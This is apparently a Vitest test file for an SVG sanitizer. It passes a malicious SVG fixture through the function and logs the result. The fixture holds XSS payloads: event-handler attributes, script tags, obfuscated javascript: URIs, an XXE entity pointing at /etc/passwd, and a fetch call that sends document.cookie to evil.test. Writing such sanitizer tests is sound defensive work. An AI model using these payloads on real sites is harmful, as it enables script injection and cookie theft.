import { it } from "vitest";
import { sanitizeSvg } from "../src";
const SVG_NS = 'xmlns="http://www.w3.org/2000/svg"';
it("x", () => {
    const malicious = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="https://evil.test/x.css" type="text/css"?>
<!DOCTYPE svg [ <!ENTITY unused SYSTEM "file:///etc/passwd"> ]>
<!-- exported by a tool -->
<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml" viewBox="0 0 10 10" onload="alert(1)">
  <script>alert(document.cookie)</script>
  <script type="text/javascript"><![CDATA[ fetch("https://evil.test/?" + document.cookie) ]]></script>
  <svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(2)</svg:script>
  <html:script>alert(3)</html:script>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(4)"></iframe></div></foreignObject>
  <iframe src="https://evil.test"/>
  <a href="javascript:alert(5)"><rect width="5" height="5" fill="red" onclick="alert(6)" onMouseOver="alert(7)"/></a>
  <a xlink:href="&#106;avascript:alert(8)"><circle r="1"/></a>
  <a href=" java&#x09;script:alert(9)"><circle r="2"/></a>
  <image href="https://evil.test/track.png" width="1" height="1"/>
  <use xlink:href="https://evil.test/sprite.svg#icon"/>
  <set attributeName="href" to="javascript:alert(10)"/>
  <animate attributeName="xlink:href" values="javascript:alert(11)"/>
  <style>@import url("https://evil.test/x.css");</style>
  <style>rect { background: url(https://evil.test/bg.png) }</style>
  <style>rect { fill: \\75rl(https://evil.test/e) }</style>
  <rect width="1" height="1" style="fill: url('https://evil.test/f')" xml:base="https://evil.test/"/>
  <handler type="application/ecmascript">alert(12)</handler>
  <path d="M0 0L10 10" stroke="black"/>
</svg>`;
  console.log("OUT1", JSON.stringify(sanitizeSvg(malicious)));
    const svg = `<svg ${SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">
<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#000"/></linearGradient><circle id="dot" r="2"/></defs>
<style><![CDATA[ .a { fill: url(#g); } .b > rect { opacity: .5 } ]]></style>
<rect class="a" width="20" height="20" fill="url(#g)" style="stroke: url( '#g' )"/>
<use xlink:href="#dot" x="5" y="5"/><use href="#dot"/>
<image href="data:image/png;base64,iVBORw0KGgo=" width="2" height="2"/>
<text x="1" y="10">A &amp; B &lt;3</text>
</svg>`;
  console.log("OUT2", JSON.stringify(sanitizeSvg(svg)));
  console.log("OUT3", JSON.stringify(sanitizeSvg(`<svg xmlns="http://www.w3.org/1999/xhtml"><rect width="1" height="1"/></svg>`)));
  console.log("OUT4", JSON.stringify(sanitizeSvg(`<svg><rect width="1" height="1"/></svg>`)));
});
